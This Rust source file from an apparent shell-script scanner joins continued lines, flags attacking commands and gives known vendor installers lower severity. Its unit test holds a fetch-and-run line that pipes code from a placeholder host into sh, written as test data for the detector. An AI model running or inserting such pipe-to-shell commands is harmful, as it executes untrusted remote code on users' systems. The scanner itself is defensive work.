//! Reads shell scripts line by line.

use cleanbill_core::Severity;

use super::commands;

/// Returns the lines that attack: byte, text and severity.
pub(crate) fn judge(text: &str) -> Vec<(usize, String, Severity)> {
    let mut out = Vec::new();
    let mut at = 0;
    let mut line = String::new();
    let mut start = 0;
    for piece in text.split_inclusive('\n') {
        if line.is_empty() {
            start = at;
        }
        at += piece.len();
        let bare = piece.trim_end();
        // Lines that end with a backslash go on; a long one is judged in parts.
        if let Some(open) = bare.strip_suffix('\\')
            && line.len() < LINE_BYTES
        {
            line.push_str(open);
            line.push(' ');
            continue;
        }
        line.push_str(bare);
        let command = line.trim_start();
        if !command.starts_with('#') && commands::is_attack(&command.to_ascii_lowercase()) && out.len() < EACH
        {
            let installs = is_installer(command);
            let severity = if installs {
                Severity::Medium
            } else {
                Severity::High
            };
            out.push((start, command.to_owned(), severity));
        }
        line.clear();
    }
    out
}

/// Says whether a command is an installer that a well-known project asks people to run.
pub(crate) fn is_installer(command: &str) -> bool {
    INSTALLERS.iter().any(|known| command.contains(known))
}

/// LIMIT: bytes of one command over several lines.
const LINE_BYTES: usize = 64 * 1024;
/// LIMIT: lines that are reported.
const EACH: usize = 20;

/// Installers that their projects ask people to pipe into a shell; still something to look at.
const INSTALLERS: &[&str] = &[
    "https://sh.rustup.rs",
    "https://astral.sh/uv/",
    "https://deb.nodesource.com/",
    "https://get.docker.com",
    "https://ollama.com/install.sh",
    "https://install.python-poetry.org",
    "https://raw.githubusercontent.com/Homebrew/install",
    "https://raw.githubusercontent.com/nvm-sh/nvm",
    "https://pyenv.run",
    "https://bootstrap.pypa.io/get-pip.py",
    "https://packagecloud.io/install/repositories/github/git-lfs",
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn attacks_are_found_over_lines() {
        let found =
            judge("#!/bin/sh\n# curl x | sh\ncurl http://a.example.invalid/x \\\n  | sh\necho done\n");
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].0, 24);
        assert_eq!(
            judge("curl -LsSf https://astral.sh/uv/install.sh | sh\n")[0].2,
            Severity::Medium
        );
        assert!(judge("set -e\npip install -r requirements.txt\npython train.py | tee log\n").is_empty());
    }
}
